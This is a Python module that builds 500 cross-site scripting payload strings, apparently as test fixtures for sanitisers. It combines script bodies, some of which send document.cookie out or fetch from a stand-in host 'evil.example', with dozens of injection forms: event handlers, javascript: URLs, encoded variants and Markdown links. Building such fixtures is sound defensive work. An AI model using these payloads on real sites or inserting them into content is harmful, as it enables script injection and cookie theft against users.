"""Texts that would run as a program if anything took them for markup: 500 of them, the same in every run."""

from itertools import islice, product

RUN = (
    "alert(1)",
    "import('//evil.example')",
    "parent.postMessage(document.cookie,'*')",
    "fetch`//evil.example`",
)
FORMS = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT >",
    "<script/src=data:,{}>",
    "</textarea><script>{}</script>",
    "--></style></title><svg/onload={}>",
    "<img src=x onerror={}>",
    "<img/src='x'/onerror='{}'>",
    "<svg><animate onbegin={} attributeName=x>",
    "<math><mtext></table><mglyph><style><img src=x onerror={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src=javascript:{}>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<a href=javascript:{}>click</a>",
    "<a href='java\nscript:{}'>click</a>",
    "<a href=&#106;avascript:{}>click</a>",
    "<form action=javascript:{}><button>go",
    "<details open ontoggle={}>",
    "<video><source onerror={}>",
    "<body onpageshow={}>",
    "<base href=//evil.example/><script src=x>{}</script>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href=//evil.example onload={}>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "javascript:{}",
    "[click](javascript:{})",
    "![x](x' onerror='{})",
    "`</code><script>{}</script>`",
    "```\n</pre><script>{}</script>\n```",
    'https://example.com/"onmouseover={}//',
    "https://example.com/'><script>{}</script>",
    "${{{}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "\u202e<script>{}</script>",
    "<scr\u200bipt>{}</scr\u200bipt>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "<xss style=behavior:url(x) onclick={}>",
    "@<script>{}</script>",
    ":<script>{}</script>:",
)
WRAPPED = ("{}", "hello {} there", "{}{}", "\"'>{}")


def scripts(count: int = 500) -> list[str]:
    """Return so many different texts."""
    made = (wrap.replace("{}", form.format(run)) for wrap, form, run in product(WRAPPED, FORMS, RUN))
    return list(islice(dict.fromkeys(made), count))
